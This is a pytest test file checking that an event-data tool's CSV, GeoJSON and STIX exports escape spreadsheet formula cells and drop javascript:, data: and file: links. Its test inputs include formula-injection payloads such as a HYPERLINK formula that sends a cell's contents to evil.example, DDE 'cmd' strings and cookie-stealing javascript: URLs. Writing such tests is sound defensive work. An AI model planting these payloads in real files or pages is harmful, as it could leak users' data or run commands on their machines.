"""Exports are safe to open: formula cells escaped as OWASP recommends, no javascript: links."""
from __future__ import annotations

import csv
import io
import json

import pytest

from eventwire.export import export
from eventwire.export.common import SafeCsvWriter, safe_cell, safe_url
from eventwire.store.testing import event, make_extraction, temp_store

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\tTabbed", "\rReturn"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_quote_in_front_and_are_quoted(value):
    assert safe_cell(value) == "'" + value
    buf = io.StringIO(newline="")
    w = SafeCsvWriter(buf, ["a", "b"])
    w.writerow({"a": value, "b": "plain"})
    line = buf.getvalue()
    assert line.startswith('"\'') and line.endswith(',plain\r\n')
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["'" + value, "plain"]


@pytest.mark.parametrize("value", ["-33.9", "+12", "-5", "1e3", "Karachi", "", "a=b", "2018-11-23"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value
    buf = io.StringIO(newline="")
    SafeCsvWriter(buf, ["a"]).writerow({"a": value})
    plain = io.StringIO(newline="")
    csv.writer(plain).writerow([value])
    assert buf.getvalue() == plain.getvalue()


def test_non_strings_and_quoting_like_the_csv_module():
    buf = io.StringIO(newline="")
    w = SafeCsvWriter(buf, ["n", "x", "q", "none"])
    w.writeheader()
    w.writerow({"n": -3, "x": 2.5, "q": 'say "hi", then\nleave'})
    plain = io.StringIO(newline="")
    c = csv.writer(plain)
    c.writerow(["n", "x", "q", "none"])
    c.writerow([-3, 2.5, 'say "hi", then\nleave', ""])
    assert buf.getvalue() == plain.getvalue()
    with pytest.raises(ValueError):
        w.writerow({"other": 1})


@pytest.mark.parametrize("url,ok", [
    ("https://news.example/a?b=1", True), ("http://news.example/", True),
    ("javascript:alert(1)", False), ("JavaScript:alert(document.cookie)", False),
    (" javascript:alert(1)", False), ("data:text/html;base64,PHNjcmlwdD4=", False),
    ("vbscript:msgbox", False), ("file:///etc/passwd", False), ("//news.example/x", False),
    ("news.example/x", False), ("https://", False), ("", False), (None, False)])
def test_only_web_urls_are_links(url, ok):
    assert (safe_url(url) is not None) is ok


@pytest.fixture()
def hostile_store():
    text = ('=HYPERLINK("http://evil.example","x") attack by @Front in Karachi. '
            "Gunmen attack in Quetta.")
    with temp_store() as store:
        store.add_extraction(make_extraction(
            text, published="2019-03-01", title="=cmd|' /C calc'!A0", source='=HYPERLINK("http://evil.example")',
            url="javascript:alert(document.cookie)",
            events=[event("attack", trigger="attack", date="2019-03-01", place=("Karachi", "PK", 24.86, 67.01),
                          killed=3, perpetrators=["@Front"])]))
        store.add_extraction(make_extraction(
            "Gunmen attack in Quetta.", published="2019-03-02", title="Quetta", source="+Wire",
            url="https://news.example/quetta",
            events=[event("attack", trigger="attack", date="2019-03-02", place=("Quetta", "PK", 30.18, 66.97),
                          killed=2, perpetrators=["-Front"])]))
        store.fuse()
        yield store


@pytest.mark.parametrize("fmt", ["acled", "gtd"])
def test_csv_exports_escape_every_formula_cell(hostile_store, fmt):
    buf = io.StringIO(newline="")
    n = export(hostile_store, fmt, buf)
    assert n == 2
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    cells = [c for r in rows for c in r]
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
             or c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit()]
    assert not risky, risky
    assert any(c.startswith("'=HYPERLINK") for c in cells)        # kept, as text
    assert any(c.startswith("'@Front") or c.startswith("'-Front") for c in cells)
    assert "javascript:" not in buf.getvalue()
    assert "https://news.example/quetta" in buf.getvalue()
    # the raw file: every escaped cell is quoted
    assert "'=HYPERLINK" in buf.getvalue() and '"\'=HYPERLINK' in buf.getvalue()


@pytest.mark.parametrize("fmt", ["geojson", "stix"])
def test_no_javascript_links_in_json_exports(hostile_store, fmt):
    buf = io.StringIO()
    export(hostile_store, fmt, buf)
    text = buf.getvalue()
    json.loads(text)
    assert "javascript:" not in text
    assert "https://news.example/quetta" in text
